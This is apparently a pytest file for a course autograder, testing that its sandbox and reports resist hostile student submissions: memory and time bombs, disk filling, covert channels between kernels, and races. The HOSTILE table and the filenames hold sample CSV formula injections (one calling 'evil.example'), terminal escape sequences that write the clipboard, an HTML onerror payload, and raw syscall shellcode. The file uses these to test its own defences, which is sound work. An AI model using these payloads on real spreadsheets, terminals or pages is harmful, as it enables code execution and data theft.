"""Round three of attacks on grading (issue 22): the grader's own process, the disk, state
shared between kernels, what instructors open, and a race that failed correct students.

Each finding is contained by a mechanism, and each mechanism is shown here with a real
attack: real nbgrader batches, real sandboxed kernels, real processes killed, a real small
file system (a tmpfs mounted for the test, as root), a real non-editable install of the
grader in a virtual environment of its own.  The submissions are built by
``tests/submissions/round3.py`` from the course's notebooks.

1. the AST race: two threads parsing (python/cpython#106905) -> ``verdicts`` parses under a
   lock, and a failure of the grader's own machinery (:class:`GraderFault`) is retried,
   never a lost point;
2. provide()'s stand-ins in the grader's process -> every hidden part runs in a process of
   its own, bounded in memory, time and message size;
3. the disk -> a kernel writes only inside its sandbox's quota (its runtime folder is in its
   tmpfs; / and /dev are read-only); a batch checks free space and fails a student cleanly;
4. the reference inside the Python installation -> every installed copy of the grader is
   hidden from the kernel (editable, ``pip install .``, a wheel);
5. shared kernel state -> own IPC and network namespaces, own tmpfs, and no keyring;
6. outputs instructors open -> every student-named text escaped for its viewer;
7. a killed coordinator -> "interrupted, regrade pending", the journal mode restored, stale
   scratch removed.
"""
from __future__ import annotations

import contextlib
import csv
import gc
import json
import os
import re
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import types
from pathlib import Path

import nbformat
import pytest
from grading_helpers import build_once

from grader.course import make_course
from grader.grading import inflight, scratch, verdicts
from grader.grading.autograde import BatchError, autograde, format_table
from grader.grading.hidden_process import KILL_GRACE, HiddenRun, Server
from grader.grading.remote import KERNEL_SOURCE
from grader.grading.sandbox import Sandbox, prepare_kit
from grader.release import nbgrader_env

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(Path(__file__).parent / "submissions"))
import round3  # noqa: E402

CH1, CH5 = round3.CH1, round3.CH5
needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap is not installed (apt-get install bubblewrap)")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (mount, uids of its own)")

LIMITS = """
# small limits for the attack tests
c.Execute.timeout = 12
c.TrustedExecute.notebook_timeout = 150
c.TrustedExecute.max_output_bytes = 300_000
c.Sandbox.memory_mb = 1024
c.Sandbox.nproc = 48
c.Sandbox.disk_mb = 64
c.Sandbox.shm_mb = 8
c.Limits.min_free_mb = 16
"""
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = {   # student ids (folder names in submitted/) of a class that attacks its readers
    "formula": '=HYPERLINK("evil.example?"&A1,"click")',     # no "/": it is a folder name
    "at": "@SUM(1+1)|cmd",
    "minus": "-2+3",
    "osc52": "\x1b]52;c;cHduZWQ=\x07clipboard",
    "clear": "\x1b[2J\x1b[H\x1b]0;pwned\x07clear",
}
RENAMED = "<img src=x onerror=alert(3)>.ipynb"
SECOND = "=cmd|' /C calc'!A0.ipynb"
EXTRA = "\x1b]0;title\x07.txt"


def _course(folder: Path, assignment: str, limits: str = LIMITS):
    course = make_course(folder, [assignment])
    config = course.root / "nbgrader_config.py"
    config.write_text(config.read_text() + limits)
    return course


def _submit(course, student: str, nb, assignment: str, name: str | None = None) -> Path:
    target = course.root / "submitted" / student / assignment / (name or f"{assignment}.ipynb")
    target.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, target)
    return target


def _outputs_text(course, student: str, assignment: str) -> str:
    nb = nbformat.read(course.root / "autograded" / student / assignment / f"{assignment}.ipynb",
                       as_version=4)
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts.append(str(out.get("text", "")) or str(out.get("data", {}).get("text/plain", ""))
                         or f"{out.get('ename', '')}: {out.get('evalue', '')}")
    return "\n".join(parts)


def _printed(text: str, tag: str) -> dict:
    line = [ln for ln in text.splitlines() if ln.startswith(tag + " ")][-1]
    return json.loads(line[len(tag) + 1:])


def _error_of(course, student: str, assignment: str, grade_id: str) -> str:
    nb = nbformat.read(course.root / "autograded" / student / assignment / f"{assignment}.ipynb",
                       as_version=4)
    (cell,) = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return " ".join(f"{o.get('ename')}: {o.get('evalue')}" for o in cell.get("outputs", [])
                    if o.get("output_type") == "error")


# =========================================================================================
# 1. The AST race, and the grader's own failures
# =========================================================================================

def _race(parse, seconds: float) -> list[str]:
    """Two threads at different stack depths parse different sources with ``parse`` while
    the garbage collector hands the interpreter to the other thread mid-parse (what the
    grader's threads, with their ZeroMQ and asyncio objects, make happen by chance)."""
    errors: list[str] = []
    stop = threading.Event()
    counter = iter(range(10**9))

    def nested(depth, fn):
        return fn() if depth == 0 else nested(depth - 1, fn)

    def churn(depth):
        while not stop.is_set():
            source = "\n".join(f"def f{i}(a, b=1):\n    return [x + {i} for x in (a, b) if x]"
                               for i in range(20)) + f"\nN = {next(counter)}\n"
            try:
                nested(depth, lambda: parse(source))
            except SystemError as exc:
                errors.append(str(exc))
                stop.set()

    def switch(phase, _info):
        if phase == "start":
            time.sleep(0)

    gc.callbacks.append(switch)
    threshold = gc.get_threshold()
    gc.set_threshold(100)
    try:
        threads = [threading.Thread(target=churn, args=(d,)) for d in (0, 30)]
        for t in threads:
            t.start()
        stop.wait(seconds)
        stop.set()
        for t in threads:
            t.join()
    finally:
        gc.callbacks.remove(switch)
        gc.set_threshold(*threshold)
    return errors


def test_the_ast_race_is_real_and_the_grader_parses_under_a_lock():
    import ast

    raw = _race(ast.parse, 3.0)
    if sys.version_info[:2] == (3, 11):
        assert raw and "recursion depth mismatch" in raw[0], "the race reproduces on 3.11"
    assert _race(verdicts.definitions, 3.0) == []


def test_a_grader_failure_is_a_fault_never_a_verdict():
    tests = verdicts.HiddenTests(["import numpy as np\n"], key=0)

    def link(request, what):
        raise SystemError("AST constructor recursion depth mismatch (before=24, after=105)")

    from grader.grading.remote import Session
    with pytest.raises(verdicts.GraderFault, match="interpreter failed"):
        tests.run("### BEGIN HIDDEN TESTS\nanswer(1)\n### END HIDDEN TESTS\n", Session(link))


# =========================================================================================
# 2. The hidden tests' own bounded process (an in-process kernel: the kernel's real code)
# =========================================================================================

STUDENT = '''
import numpy as np

def gumbel_softmax(logits, noise, tau):
    z = np.exp((logits + noise) / tau)
    return z / z.sum(-1, keepdims=True)

def step(x):
    return gumbel_softmax(x, np.zeros_like(x), 1.0)

def amplify():
    return gumbel_softmax(np.zeros((20000, 1)), np.zeros((1, 20000)), 1.0)

def huge():
    return gumbel_softmax(np.zeros((3000, 1)), np.zeros((1, 3000)), 1.0)
'''
HELPERS = ["import numpy as np\nfrom grader.checks import check_close\n"]


def _kernel_run(code: str, seconds: float = 20.0, memory_mb: int = 512):
    """``code`` as a hidden part, in its own process, against STUDENT in a 'kernel' here."""
    module = types.ModuleType("__rnns_probe__")
    exec(KERNEL_SOURCE, module.__dict__)
    user_ns: dict = {}
    exec(STUDENT, user_ns)
    run = HiddenRun({"helpers": HELPERS, "key": "7", "code": code, "memory_mb": memory_mb},
                    time.monotonic() + seconds)
    module._ask = run.ask

    def link(request, what):
        return json.loads(module.serve(json.dumps(request), user_ns))

    t0 = time.monotonic()
    verdict = run.run(link)
    return verdict, time.monotonic() - t0


PROVIDED = ("from grader.reference.gumbel import gumbel_softmax as _ref\n"
            "with provide(gumbel_softmax=_ref):\n"
            "    {}\n")


def test_a_stand_in_on_student_chosen_arrays_is_bounded_in_memory():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    (passed, name, message), _ = _kernel_run(PROVIDED.format("amplify()"))
    assert not passed and "MemoryError" in message      # raised in the 'kernel', from the answer
    grew = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grew < 200_000, f"the grader's own memory grew by {grew} KiB"
    # the honest use still works
    ok, _ = _kernel_run(PROVIDED.format("check_close(step(np.ones((2, 3))), np.full((2, 3), 1 / 3))"))
    assert ok == (True, "", "")


def test_a_stand_in_answer_is_bounded_in_size():
    (passed, name, message), _ = _kernel_run(PROVIDED.format("huge()"), memory_mb=1024)
    assert not passed and "too large" in message


def test_a_stand_in_that_never_returns_is_stopped_at_the_deadline():
    code = ("import time\n"
            "with provide(gumbel_softmax=lambda *a: time.sleep(10**6)):\n"
            "    step(np.ones((1, 2)))\n")
    (passed, name, message), seconds = _kernel_run(code, seconds=3.0)
    assert not passed and "time limit" in message
    assert seconds < 3.0 + KILL_GRACE + 2


def test_a_hidden_part_stuck_in_c_is_killed_by_the_grader():
    # a sum over 10**12 integers, in C, that checks no signal: its deadline cannot stop it
    code = "sum(range(10**12))\n"
    (passed, name, message), seconds = _kernel_run(code, seconds=2.0)
    assert (passed, name) == (False, "TimeoutError") and "stopped by the grader" in message
    assert seconds < 2.0 + KILL_GRACE + 2


def test_a_killed_hidden_process_is_the_graders_fault():
    """Not a verdict: a process that dies of something other than its limits is a
    GraderFault, which a batch grades again."""
    server = Server.get()
    # long enough that a loaded machine starts the child before its code ends
    code = "import time\ntime.sleep(40)\n"
    # a child left by an earlier test of this worker (killed a moment later) is not ours
    earlier = set(_server_children(server))
    killer = threading.Thread(target=_kill_first_child, args=(server, 35.0, earlier))
    killer.start()
    with pytest.raises(verdicts.GraderFault, match="the hidden tests' process"):   # its death, at any point
        _kernel_run(code, seconds=60.0)
    killer.join()


def _server_children(server: Server) -> list[int]:
    pid = server.pid()
    if pid is None:
        return []
    try:
        return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


def _kill_first_child(server: Server, within: float, earlier: set[int] = frozenset()) -> int | None:
    deadline = time.monotonic() + within
    while time.monotonic() < deadline:
        children = [pid for pid in _server_children(server) if pid not in earlier]
        if children:
            try:
                pidfd = os.pidfd_open(children[0])      # that process, whatever happens to the pid
            except OSError:
                continue
            time.sleep(0.3)
            try:
                signal.pidfd_send_signal(pidfd, signal.SIGKILL)
            finally:
                os.close(pidfd)
            return children[0]
        time.sleep(0.02)
    return None


# =========================================================================================
# The chapter-5 class that attacks the grader's process, the disk, its neighbours, the
# Python installation and its readers; graded once per test run
# =========================================================================================

def _du(path: Path) -> int:
    total = 0
    for folder, _dirs, files in os.walk(path):
        for name in files:
            try:
                total += os.lstat(os.path.join(folder, name)).st_size
            except OSError:
                pass
    return total


def _grade_class(workdir: Path) -> dict:
    course = _course(workdir / "course", CH5)
    honest = round3.answered(CH5)
    _submit(course, "complete", honest, CH5)
    for name, build in round3.BUILDERS.items():
        _submit(course, name, build(), CH5)
    for key, student in HOSTILE.items():
        _submit(course, student, honest, CH5, RENAMED if key == "minus" else None)
    _submit(course, HOSTILE["at"], honest, CH5, SECOND)
    (course.root / "submitted" / HOSTILE["osc52"] / CH5 / EXTRA).write_text("x")
    base = scratch.base()
    peak = {"scratch": 0}
    stop = threading.Event()

    def watch_disk():
        while not stop.is_set():
            peak["scratch"] = max(peak["scratch"], _du(base))
            time.sleep(0.2)

    watcher = threading.Thread(target=watch_disk, daemon=True)
    watcher.start()
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.monotonic()
    try:
        batch = autograde(course.root, CH5, jobs=2, progress=False)
    finally:
        stop.set()
        watcher.join()
    seconds = time.monotonic() - t0
    table = format_table(batch)
    print(table)
    print(f"measured: batch {seconds:.1f} s, grader's peak memory grew by "
          f"{(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024:.0f} MiB, "
          f"scratch peak {peak['scratch'] / 2**20:.1f} MiB, time-bomb student "
          f"{next(s.seconds for s in batch.students if s.student == 'time-bomb'):.1f} s, "
          f"load {os.getloadavg()[0]:.1f}")
    from grader.grading.lms import export
    from grader.grading.report import write_class_report

    reports = course.root / "reports" / CH5
    write_class_report(course.root, CH5, reports)
    export(course.root, CH5, "canvas", reports / "canvas.csv")
    export(course.root, CH5, "moodle", reports / "moodle.csv")
    cli = subprocess.run([sys.executable, "-m", "grader", "report", CH5, "--course", str(course.root)],
                         env=nbgrader_env(), capture_output=True, text=True, timeout=300)
    from grader.grading.feedback import generate_feedback
    feedback = generate_feedback(course.root, CH5, [HOSTILE["formula"]])
    return {"course": course, "batch": batch, "table": table, "seconds": seconds,
            "by": {s.student: s for s in batch.students}, "scratch_peak": peak["scratch"],
            "rss_grew_kib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before,
            "report_cli": cli.stdout + cli.stderr, "report_rc": cli.returncode,
            "feedback": [(f.student, [str(p) for p in f.files], f.problem) for f in feedback]}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    return build_once(tmp_path_factory, "grading-attacks-round3", _grade_class)


# --- 2. the grader's own process ----------------------------------------------------------

def test_the_issues_amplifier_costs_only_its_question(graded):
    result = graded["by"]["amplifier"]
    assert result.status == "graded" and result.scores["q4-tests"] == 0
    assert result.score == result.max_score - 3
    assert "MemoryError" in _error_of(graded["course"], "amplifier", CH5, "q4-tests")
    assert graded["rss_grew_kib"] < 1_000_000, "the grader computed the 3.2 GB itself"
    assert graded["by"]["complete"].score == graded["by"]["complete"].max_score


def test_a_time_bomb_in_a_stand_in_is_stopped_at_the_cells_limit(graded):
    result = graded["by"]["time-bomb"]
    assert result.status == "graded" and result.scores["q4-tests"] == 0
    assert result.score == result.max_score - 3
    assert "time limit" in _error_of(graded["course"], "time-bomb", CH5, "q4-tests")
    assert result.seconds < 150, "a minute of reference work per call was not stopped"


def test_an_answer_over_the_wire_limit_is_refused(graded):
    result = graded["by"]["answer-bomb"]
    assert result.scores["q4-tests"] == 0 and result.score == result.max_score - 3
    assert "too large" in _error_of(graded["course"], "answer-bomb", CH5, "q4-tests")


def test_no_grader_error_and_everyone_graded(graded):
    batch = graded["batch"]
    assert batch.grader_errors == [] and batch.errors == []
    # refused: the renamed notebook (with the accept command), an id nbgrader cannot glob
    refused = {HOSTILE["minus"], HOSTILE["clear"]}
    assert {s.student for s in batch.students if s.status != "graded"} == refused
    assert "nbgrader cannot grade; rename the folder" in graded["by"][HOSTILE["clear"]].reason


# --- 3. the disk ------------------------------------------------------------------------------

def test_every_byte_a_kernel_writes_is_inside_its_quota(graded):
    course = graded["course"]
    report = _printed(_outputs_text(course, "disk-filler", CH5), "DISK-FILLER")
    tmp_mb, shm_mb = 64 - 8, 8
    assert report["runtime"][0] <= tmp_mb and report["runtime"][1]          # the sockets' folder: in /tmp
    assert report["tmp"][0] <= tmp_mb and report["work"][0] <= tmp_mb
    assert report["dev_shm"][0] <= shm_mb and report["dev_shm"][1]
    for place in ("connection_dir", "root", "dev", "kit", "prefix"):
        assert report[place][0] == 0 and report[place][1] in ("Read-only file system",
                                                              "Permission denied"), (place, report[place])
    assert graded["by"]["disk-filler"].score == graded["by"]["disk-filler"].max_score
    # nothing reached the host disk: the grader's scratch never held more than its own files
    assert graded["scratch_peak"] < 32 * 2**20, graded["scratch_peak"]


# --- 4. the reference inside the Python installation ----------------------------------------

def test_the_installed_grader_is_invisible_to_the_kernel(graded):
    course = graded["course"]
    assert _printed(_outputs_text(course, "reference-hunter", CH5), "REFERENCE-HUNTER") == []
    scores = graded["by"]["reference-hunter"].scores
    assert scores["q2-tests"] == 0 and scores["q6-tests"] == 0


# --- 5. state shared between kernels ------------------------------------------------------

def test_kernels_of_the_batch_share_no_state(graded):
    course = graded["course"]
    wrote = _printed(_outputs_text(course, "covert-a-writer", CH5), "COVERT-WRITER")
    found = _printed(_outputs_text(course, "covert-b-reader", CH5), "COVERT-READER")
    assert wrote["add_key"] == "EPERM"                  # no keyring at all
    assert found["keyctl_search"] == "EPERM"
    assert found["proc_keys"] == [] or isinstance(found["proc_keys"], str)
    assert not isinstance(found["shmget"], int) and found["abstract_socket"] != "connected"
    assert not any(found[p] is True for p in ("/dev/shm/rnns-covert", "/tmp/rnns-covert", "rnns-covert"))
    for student in ("covert-a-writer", "covert-b-reader"):
        assert graded["by"][student].score == graded["by"][student].max_score


# --- 6. what instructors open -------------------------------------------------------------

def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_no_csv_cell_is_a_formula(graded):
    reports = graded["course"].root / "reports" / CH5
    files = [reports / n for n in ("scores.csv", "canvas.csv", "canvas-reasons.csv", "moodle.csv")]
    for path in files:
        cells = _csv_cells(path)
        bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert bad == [], (path.name, bad[:5])
        assert not any(CONTROL.search(c) for c in cells), path.name
    scores = (reports / "scores.csv").read_text(encoding="utf-8")
    assert "'" + HOSTILE["formula"].replace('"', '""') in scores          # there, as text


def test_terminal_output_sends_no_control_sequence(graded):
    for text in (graded["table"], graded["report_cli"]):
        assert not CONTROL.search(text.replace("\n", "").replace("\t", "")), \
            repr(CONTROL.search(text.replace("\n", "").replace("\t", "")))
    assert graded["report_rc"] == 0
    assert "\\x1b]52;c;" in graded["table"]                       # shown, as an escape


def test_the_suggested_accept_command_works_when_pasted(graded, tmp_path):
    """A TA copies the command the table suggests for the renamed notebook (an id that looks
    like an option, a file name full of HTML) into a shell: it accepts exactly that file."""
    course = graded["course"]
    copy = Path(shutil.copytree(course.root, tmp_path / "course", symlinks=True))
    line = [ln for ln in graded["table"].splitlines() if ln.startswith(HOSTILE["minus"] + " ")][0]
    command = line.split("if it is the student's work: ", 1)[1]
    assert command.startswith("python -m grader accept -- ")
    proc = subprocess.run(["bash", "-c", command.replace("python", sys.executable, 1)], cwd=copy,
                          env=nbgrader_env(), capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    recorded = json.loads((copy / "accepted-notebooks.json").read_text())
    assert recorded == {CH5: {HOSTILE["minus"]: {RENAMED: f"{CH5}.ipynb"}}}


def test_markdown_and_html_show_names_literally(graded):
    summary = (graded["course"].root / "reports" / CH5 / "summary.md").read_text(encoding="utf-8")
    assert "<img" not in summary and "onerror=alert" in summary.replace("\\", "")
    # the only links are the report's own figures
    assert "](" not in summary.replace("](histogram.png)", "").replace("](misconceptions.png)", "")
    assert not CONTROL.search(summary.replace("\n", ""))
    for student, files, problem in graded["feedback"]:
        assert not problem, problem
        for path in files:
            page = Path(path).read_text(encoding="utf-8")
            assert "\x1b" not in page and "<img src=x" not in page


# =========================================================================================
# 5. State shared between kernels, directly: the same uid one after the other, and two
#    uids at the same time
# =========================================================================================

def _sandboxed(code: str, uid: int, tmp: Path, kit: Path, timeout: float = 60):
    box = Sandbox(memory_mb=1024, nproc=32, disk_mb=16, shm_mb=4)
    fd = box.seccomp_fd()
    try:
        argv = box.kernel_argv(kit_dir=kit, runtime_dir="/tmp/.rt", uid=uid, notebook_timeout=60,
                               seccomp_fd=fd)
        argv = argv[:argv.index("-m")] + ["-c", code]
        return subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                                pass_fds=(fd,))
    finally:
        os.close(fd)


def _result(proc, tag: str, timeout: float = 60) -> dict:
    out, err = proc.communicate(timeout=timeout)
    assert proc.returncode == 0, err[-2000:]
    return _printed(out, tag)


WRITABLE_MOUNTS = r'''
import json, os
out = {}
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    point, options = fields[4], fields[5]
    fstype = fields[fields.index("-") + 1]
    if fstype in ("proc", "devpts") or point.startswith("/proc") or os.path.isfile(point) \
            or os.path.exists(point) and not os.path.isdir(point):
        continue
    try:
        probe = os.path.join(point, ".rnns-write-probe")
        with open(probe, "w") as f:
            f.write("x")
        os.unlink(probe)
        out[point] = fstype + " " + fields[fields.index("-") + 3]
    except OSError:
        pass
print("WRITABLE " + json.dumps(out))
'''


@needs_bwrap
def test_no_state_survives_a_kernel_or_crosses_to_another(tmp_path):
    kit = prepare_kit(tmp_path)
    box = Sandbox()
    same, other = box.slot_uid(40), box.slot_uid(41)
    writer = round3.COVERT + "_out, _s = leave_traces()\nprint('W ' + json.dumps(_out))\n"
    holder = round3.COVERT + ("_out, _s = leave_traces()\nprint('W ' + json.dumps(_out), flush=True)\n"
                              "time.sleep(6)\n")
    reader = round3.COVERT + "print('R ' + json.dumps(find_traces()))\n"
    # one student after the other, on the same uid (as every second student of a slot is)
    first = _result(_sandboxed(writer, same, tmp_path, kit), "W")
    later = _result(_sandboxed(reader, same, tmp_path, kit), "R")
    # at the same time, on two uids (two slots)
    held = _sandboxed(holder, same, tmp_path, kit)
    time.sleep(2.0)
    meanwhile = _result(_sandboxed(reader, other, tmp_path, kit), "R")
    held_out = _result(held, "W")
    for wrote in (first, held_out):
        assert wrote["add_key"] == "EPERM"                                   # the keyring: refused
        assert isinstance(wrote["shmget"], int) and wrote["abstract_socket"] == "listening"
        assert wrote["/dev/shm/rnns-covert"] == wrote["/tmp/rnns-covert"] == "written"
    if os.geteuid() == 0:
        assert first["uid"] == later["uid"] == same and meanwhile["uid"] == other
    for found in (later, meanwhile):
        assert found["keyctl_search"] == "EPERM"
        assert not isinstance(found["shmget"], int)                            # IPC namespace
        assert found["abstract_socket"] != "connected"                         # network namespace
        assert not any(found[p] for p in ("/dev/shm/rnns-covert", "/tmp/rnns-covert", "rnns-covert"))
    # and nothing else a kernel could write to is shared: only its own two tmpfs
    writable = _result(_sandboxed(WRITABLE_MOUNTS, same, tmp_path, kit), "WRITABLE")
    assert sorted(writable) == ["/dev/shm", "/tmp"], writable
    assert all(v.startswith("tmpfs") and "size=" in v for v in writable.values()), writable


@needs_bwrap
def test_the_keyring_filter_covers_the_32_bit_entry_points(tmp_path):
    """On x86-64 a process can make 32-bit syscalls (int 0x80), numbered differently: the
    filter refuses add_key there too (EPERM, where an unfiltered kernel says EFAULT)."""
    if os.uname().machine != "x86_64":
        pytest.skip("x86-64 only")
    code = ("import ctypes, mmap\n"
            "code = bytes.fromhex('b8' + (286).to_bytes(4, 'little').hex() + '31db31c931d231f631ffcd80c3')\n"
            "buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            "buf.write(code)\n"
            "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\n"
            "print('I ' + str(f()))\n")
    proc = _sandboxed(code, Sandbox().slot_uid(42), tmp_path, prepare_kit(tmp_path))
    out, _ = proc.communicate(timeout=60)
    if proc.returncode != 0:
        pytest.skip("no 32-bit syscalls on this kernel")
    assert out.strip().splitlines()[-1] == "I -1"          # -EPERM from the filter


# =========================================================================================
# 3. The disk: a real small file system holding the course and the grader's scratch
# =========================================================================================

@pytest.fixture
def small_disk(tmp_path):
    """A 160 MiB tmpfs for the course and TMPDIR (the grader's scratch), mounted here."""
    point = tmp_path / "disk"
    point.mkdir()
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=160m,mode=0755", "tmpfs", str(point)],
                          capture_output=True, text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {proc.stderr.strip()}")
    old = os.environ.get("TMPDIR")
    (point / "tmp").mkdir(mode=0o1777)
    os.environ["TMPDIR"] = str(point / "tmp")
    import tempfile
    tempfile.tempdir = None
    try:
        yield point
    finally:
        if old is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = old
        tempfile.tempdir = None
        subprocess.run(["umount", "-l", str(point)], capture_output=True)


def _fill_to(point: Path, leave_mb: float) -> Path:
    """A file that leaves ``leave_mb`` MiB free on ``point``'s file system."""
    free = scratch.free_mb(point)
    ballast = point / "ballast"
    with ballast.open("wb") as f:
        f.truncate(0)
        chunk = b"\0" * 2**20
        for _ in range(max(0, int(free - leave_mb))):
            f.write(chunk)
    return ballast


def _grades(db: Path, student: str) -> list:
    with contextlib.closing(sqlite3.connect(db)) as con:
        return con.execute(
            "SELECT grade.auto_score FROM grade JOIN submitted_notebook ON grade.notebook_id = "
            "submitted_notebook.id JOIN submitted_assignment ON submitted_notebook.assignment_id = "
            "submitted_assignment.id WHERE submitted_assignment.student_id = ?", (student,)).fetchall()


@needs_bwrap
@needs_root
def test_a_full_disk_fails_students_cleanly_and_never_reaches_the_gradebook(small_disk):
    course = _course(small_disk / "course", CH1)
    _submit(course, "a-filler", round3.disk_filler(CH1), CH1)
    _submit(course, "b-honest", round3.answered(CH1), CH1)
    batch = autograde(course.root, CH1, jobs=2, progress=False)
    assert {s.student: (s.status, s.score) for s in batch.students} == \
        {"a-filler": ("graded", 11), "b-honest": ("graded", 11)}, format_table(batch)
    # too little room before a batch: it does not start, nothing is written
    _submit(course, "c-late", round3.answered(CH1), CH1)
    ballast = _fill_to(small_disk, 8)
    with pytest.raises(BatchError, match="MiB free"):
        autograde(course.root, CH1, jobs=1, progress=False)
    assert _grades(course.root / "gradebook.db", "c-late") == []
    # the disk fills while a batch runs: the students after that are 'error', nothing of
    # theirs in the gradebook, and graded by the next batch once there is room
    ballast.unlink()
    _submit(course, "c-late", round3.slow_start(CH1, 6), CH1)
    _submit(course, "d-later", round3.answered(CH1), CH1)
    filler = threading.Thread(target=lambda: (time.sleep(4), _fill_to(small_disk, 8)))
    filler.start()
    batch = autograde(course.root, CH1, jobs=1, progress=False)
    filler.join()
    status = {s.student: s.status for s in batch.students}
    assert status["d-later"] == "error", format_table(batch)
    assert "MiB free" in batch.students[-1].reason
    assert all(score is None for (score,) in _grades(course.root / "gradebook.db", "d-later"))
    from grader.grading.lms import lms_rows
    rows = {r.student: r for r in lms_rows(course.root, CH1)[1]}
    assert rows["d-later"].grade is None and "regrade pending" in rows["d-later"].reason
    (small_disk / "ballast").unlink()
    again = autograde(course.root, CH1, jobs=1, progress=False)
    assert {s.student: s.status for s in again.students if s.status == "graded"}.keys() >= {"d-later"}
    assert {s.student: s.score for s in again.students}["d-later"] == 11
    with contextlib.closing(sqlite3.connect(course.root / "gradebook.db")) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)


# =========================================================================================
# 4. The reference in the Python installation: pip install . and a wheel
# =========================================================================================

def _venv_with_grader(folder: Path, mode: str) -> Path:
    """A virtual environment of its own with this grader installed non-editable (``pip
    install .`` of a copy of the sources, or a wheel built first), the test environment's
    packages reachable through a .pth file (no network: nothing else is installed)."""
    source = folder / "src"
    shutil.copytree(ROOT / "grader", source / "grader", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "pyproject.toml", source / "pyproject.toml")
    venv = folder / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site_packages = next((venv / "lib").glob("python3*/site-packages"))
    ours = next(p for p in sys.path if p.endswith("site-packages") and Path(p, "numpy").is_dir())
    (site_packages / "_test_environment.pth").write_text(ours + "\n")
    python = venv / "bin" / "python"
    pip = [str(python), "-m", "pip", "install", "--quiet", "--no-deps", "--no-build-isolation",
           "--no-index", "--disable-pip-version-check"]
    if mode == "wheel":
        wheels = folder / "wheels"
        subprocess.run([str(python), "-m", "pip", "wheel", "--quiet", "--no-deps",
                        "--no-build-isolation", "--no-index", "-w", str(wheels), str(source)],
                       check=True, capture_output=True)
        subprocess.run(pip + [str(next(wheels.glob("*.whl")))], check=True, capture_output=True)
    else:
        subprocess.run(pip + [str(source)], check=True, capture_output=True)
    assert (site_packages / "grader" / "reference" / "rnn_by_hand.py").is_file()
    return python


VIEW_PROBE = r'''
import json, os, subprocess, sys
from pathlib import Path
import grader
from grader.grading.sandbox import Sandbox, prepare_kit
ours = sys.argv[1]
box = Sandbox(extra_ro_binds=[ours])
kit = prepare_kit(Path(sys.argv[2]))
fd = box.seccomp_fd()
argv = box.kernel_argv(kit_dir=kit, runtime_dir="/tmp/.rt", uid=box.slot_uid(44), notebook_timeout=60,
                       seccomp_fd=fd)
inside = r"""
import hashlib, importlib.metadata, importlib.util, json, os, sys
digests = set(sys.argv[1].split(","))
out = {"grader": __import__("grader").__file__, "reference": importlib.util.find_spec("grader.reference") is not None}
try:
    out["distribution"] = [str(f) for f in importlib.metadata.distribution("rnns-from-scratch-grader").files or []]
except importlib.metadata.PackageNotFoundError:
    out["distribution"] = None
same = []
for root in sys.argv[2:]:
    for folder, dirs, files in os.walk(root):
        for name in files:
            if name.endswith(".py"):
                try:
                    data = open(os.path.join(folder, name), "rb").read()
                except OSError:
                    continue
                if hashlib.sha256(data).hexdigest() in digests:
                    same.append(os.path.join(folder, name))
out["copies_of_the_reference"] = same
print("VIEW " + json.dumps(out))
"""
import hashlib
package = Path(grader.__file__).parent
digests = ",".join(hashlib.sha256(p.read_bytes()).hexdigest()
                   for p in [*package.glob("reference/*.py"), package / "grading" / "verdicts.py"]
                   if p.stat().st_size > 200)
argv = argv[:argv.index("-m")] + ["-c", inside, digests, sys.prefix, sys.base_prefix, ours]
proc = subprocess.run(argv, capture_output=True, text=True, pass_fds=(fd,), timeout=300)
print(proc.stdout + proc.stderr[-2000:])
print("INSTALLED " + json.dumps({"grader": grader.__file__, "hidden": box.view().hidden}))
'''


@pytest.fixture(scope="module")
def installed(tmp_path_factory):
    """mode -> the python of a venv with the grader installed that way (made on first use)."""
    made: dict[str, Path] = {}

    def get(mode: str) -> Path:
        if mode not in made:
            made[mode] = _venv_with_grader(tmp_path_factory.mktemp(mode), mode)
        return made[mode]
    return get


@needs_bwrap
@pytest.mark.parametrize("mode", ["pip-install", "wheel"])
def test_a_non_editable_grader_is_hidden_from_the_kernel(tmp_path, mode, installed):
    python = installed(mode)
    ours = next(p for p in sys.path if p.endswith("site-packages") and Path(p, "numpy").is_dir())
    proc = subprocess.run([str(python), "-c", VIEW_PROBE, ours, str(tmp_path)], capture_output=True,
                          text=True, timeout=600, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-3000:]
    copy = _printed(proc.stdout, "INSTALLED")
